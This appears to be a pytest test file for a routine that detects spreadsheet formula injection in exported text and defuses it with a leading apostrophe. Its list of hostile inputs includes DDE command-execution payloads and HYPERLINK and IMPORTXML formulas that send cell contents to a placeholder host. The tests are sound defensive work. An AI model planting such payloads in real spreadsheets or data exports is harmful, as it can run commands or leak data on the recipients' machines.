"""The formula-safety rule on its own: what counts as formula-like, and how it is defused (fast tier)."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nk_pipeline.shared.spreadsheet_text import (
    APOSTROPHE,
    formula_like_cells,
    is_formula_like,
    neutralise,
    neutralise_frame,
    original_text,
)

# Shapes seen in CSV-injection write-ups: DDE, functions, signs, hidden starts, full-width forms.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1+1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1)",
    "@cmd",
    "\t=1",
    "\r=1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    "   =1+1",
    "\u00a0=1",  # no-break space
    "\u3000=1",  # ideographic space
    " \t\n+1",
    "＝1+1",  # full-width equals
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",  # small equals sign
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "-",
    "=",
    "@",
]

BENIGN = [
    "",
    "Russia",
    "4,000–15,000 (2025)",
    "2019-12",
    "S/RES/2397 (2017)",
    "a=b",
    "1-2",
    "   spaces, then words",
    "UN: 100,000 workers",
    "−5",  # U+2212 MINUS SIGN is not a sign a spreadsheet parses
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_defused_with_one_apostrophe(text):
    assert is_formula_like(text)
    safe = neutralise(text)
    assert safe == APOSTROPHE + text
    assert not is_formula_like(safe)


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


_blank = st.sampled_from([" ", "\u00a0", "\u3000", "\n", "\u2003"])

_trigger = st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣"])


@given(lead=st.lists(_blank, max_size=4).map("".join), trigger=_trigger, tail=st.text(max_size=30))
def test_a_trigger_after_any_white_space_is_formula_like(lead, trigger, tail):
    text = lead + trigger + tail
    assert is_formula_like(text)
    assert neutralise(text) == APOSTROPHE + text


@given(st.sampled_from(["\t", "\r"]), st.text(max_size=30))
def test_a_leading_tab_or_carriage_return_is_formula_like(control, tail):
    assert is_formula_like(control + tail)


@given(st.text(max_size=40))
def test_neutralised_text_is_never_formula_like_and_gives_the_text_back(text):
    safe = neutralise(text)
    assert not is_formula_like(safe)
    assert safe in (text, APOSTROPHE + text)
    assert original_text(safe) == text


@pytest.mark.parametrize("text", ["'=1", "'", "'tis the season", "''"])
def test_text_that_starts_with_an_apostrophe_gets_one_more_so_the_change_can_be_undone(text):
    assert neutralise(text) == APOSTROPHE + text
    assert original_text(neutralise(text)) == text
    assert neutralise("=1") != neutralise(text)  # "=1" and "'=1" stay apart


def test_frames_keep_numbers_as_numbers_and_defuse_only_text():
    frame = pd.DataFrame(
        {
            "title": ["=1+1", "Plain", None, "-5"],
            "gap": [-1200, 5, 0, -5],
            "ratio": [-1.5, float("nan"), 2.0, -0.25],
            "low": pd.array([-1, None, 3, 4], dtype="Int64"),
            "used": [True, False, True, False],
        }
    )
    safe = neutralise_frame(frame)
    assert safe["title"].tolist()[:2] == ["'=1+1", "Plain"] and pd.isna(safe["title"][2])
    assert safe["title"][3] == "'-5"  # "-5" typed as text is text: a spreadsheet would compute it
    for column in ("gap", "ratio", "low", "used"):
        assert safe[column].dtype == frame[column].dtype
        pd.testing.assert_series_equal(safe[column], frame[column])
    assert frame["title"][0] == "=1+1"  # the input is not changed


def test_formula_like_cells_name_line_and_column():
    frame = pd.DataFrame({"_line": [2, 3, 5], "title": ["ok", "=1", "ok"], "notes": ["@x", None, "-"]})
    assert sorted(formula_like_cells(frame, "_line")) == [(2, "notes", "@x"), (3, "title", "=1"), (5, "notes", "-")]
